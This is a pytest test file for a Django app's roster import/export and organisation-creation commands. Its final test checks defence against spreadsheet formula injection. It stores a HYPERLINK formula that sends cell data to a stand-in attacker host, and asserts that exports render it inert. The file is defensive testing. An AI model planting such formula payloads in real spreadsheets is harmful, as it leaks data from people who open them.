"""`twoway roster import|export` and `twoway org create` as a script would use them."""

import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from twoway.org.models import Organisation, Person

pytestmark = pytest.mark.django_db

ROSTER = (
    "Emp #;Name;Job Title;Supervisor ID;Unit Path;Hire Date\n"
    "A1;Ada Lovelace;Site Director;;Acme Care / Porto;07/03/2020\n"
    "A2;Bo Diddley;Supervisor;A1;Acme Care / Porto / Team P;25/12/2022\n"
    "A3;Cy Young;Advisor;A2;Acme Care / Porto / Team P;01/02/2025\n"
)


def run(*args) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_org_create_makes_a_tenant_and_refuses_duplicates():
    out, _ = run("org", "create", "initech", "--name", "Initech Support")
    assert "Created organisation initech" in out
    assert Organisation.objects.get(slug="initech").name == "Initech Support"
    with pytest.raises(CommandError, match="exists already"):
        run("org", "create", "initech", "--name", "Again")
    with pytest.raises(CommandError, match="not a valid slug"):
        run("org", "create", "bad slug!", "--name", "X")


def test_dry_run_shows_the_diff_and_writes_nothing(tmp_path):
    Organisation.objects.create(slug="initech", name="Acme Care")
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER, encoding="utf-8")
    out, _ = run("roster", "import", str(path), "--org", "initech", "--dry-run")
    assert "3 joiners" in out and "Dry run" in out and "+ A3 Cy Young" in out
    assert not Person.objects.exists()
    run("roster", "import", str(path), "--org", "initech")
    cy = Person.objects.get(employee_id="A3")
    assert cy.hire_date.isoformat() == "2025-02-01"  # day-first detected from 25/12/2022
    assert cy.manager.employee_id == "A2" and cy.unit.name == "Team P"


def test_errors_exit_non_zero_and_name_row_and_column(tmp_path):
    Organisation.objects.create(slug="initech", name="Initech")
    path = tmp_path / "bad.csv"
    path.write_text(ROSTER.replace(";A2;Acme", ";A3;Acme"), encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError) as raised:
        call_command("roster", "import", str(path), "--org", "initech", stderr=err)
    assert raised.value.returncode == 1
    assert "Row 4" in err.getvalue() and "Supervisor ID" in err.getvalue()
    assert not Person.objects.exists()


def test_mass_leave_needs_the_flag(world, tmp_path):
    path = tmp_path / "partial.csv"
    path.write_text(
        "Employee ID,Name,Role,Site,Team\nE010,Tom Example,team lead,Lisbon,Team Lisbon 1\n"
    )
    err = io.StringIO()
    with pytest.raises(CommandError) as raised:
        call_command("roster", "import", str(path), "--org", "acme", stderr=err)
    assert raised.value.returncode == 3
    assert "12 of 13 active people" in err.getvalue()
    assert Person.objects.filter(organisation=world.org, is_active=True).count() == 13
    run("roster", "import", str(path), "--org", "acme", "--allow-mass-leave")
    assert Person.objects.filter(organisation=world.org, is_active=True).count() == 1


def test_export_is_stable_and_reimports_with_no_changes(world, tmp_path):
    world.people["Ben"].is_active = False
    world.people["Ben"].save()
    first, _ = run("roster", "export", "--org", "acme")
    second, _ = run("roster", "export", "--org", "acme")
    assert first == second
    lines = first.splitlines()
    assert lines[0].startswith("Employee ID,First Name,Last Name")
    assert [line.split(",")[0] for line in lines[1:]] == sorted(
        p.employee_id for p in Person.objects.filter(organisation=world.org)
    )
    path = tmp_path / "export.csv"
    path.write_text(first)
    out, _ = run("roster", "import", str(path), "--org", "acme", "--json")
    report = json.loads(out)
    assert report["errors"] == []
    assert all(n == 0 for n in report["counts"].values()), report["counts"]


def test_xlsx_export_round_trips(world, tmp_path):
    target = tmp_path / "roster.xlsx"
    run("roster", "export", "--org", "acme", "--format", "xlsx", "--output", str(target))
    rows = list(load_workbook(target, read_only=True).active.iter_rows(values_only=True))
    assert rows[0][0] == "Employee ID" and len(rows) == 14
    out, _ = run("roster", "import", str(target), "--org", "acme", "--json")
    assert all(n == 0 for n in json.loads(out)["counts"].values())


def test_unknown_organisation_is_a_clear_error(tmp_path):
    with pytest.raises(CommandError, match="No organisation 'nope'"):
        run("roster", "export", "--org", "nope")


def test_exports_never_carry_a_live_formula_and_still_round_trip(world, tmp_path, login):
    """Issue 15: text typed into the roster that a spreadsheet would run comes out inert, in
    the CSV (a guarding quote) and the XLSX (a text cell), and imports back unchanged."""
    import csv
    import io

    from openpyxl import load_workbook

    from twoway.org.models import Person

    ana = Person.objects.get(organisation=world.org, employee_id="E011")
    ana.first_name = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    ana.job_title = "@SUM(1+1)"
    ana.phone = "+351 912 345 678"
    ana.save()
    client = login(world.admin)
    exported = client.get("/o/acme/roster/export/").content.decode()
    rows = {row["Employee ID"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert rows["E011"]["First Name"] == "'" + ana.first_name
    assert rows["E011"]["Job Title"] == "'@SUM(1+1)"
    assert rows["E011"]["Phone"] == "'+351 912 345 678"

    book = load_workbook(io.BytesIO(client.get("/o/acme/roster/export/?format=xlsx").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert ana.first_name in {cell.value for cell in cells}

    for name, data in (
        ("back.csv", exported.encode()),
        ("back.xlsx", client.get("/o/acme/roster/export/?format=xlsx").content),
    ):
        path = tmp_path / name
        path.write_bytes(data)
        report = json.loads(run("roster", "import", str(path), "--org", "acme", "--json")[0])
        assert report["errors"] == []
        assert all(n == 0 for n in report["counts"].values()), (name, report["counts"])
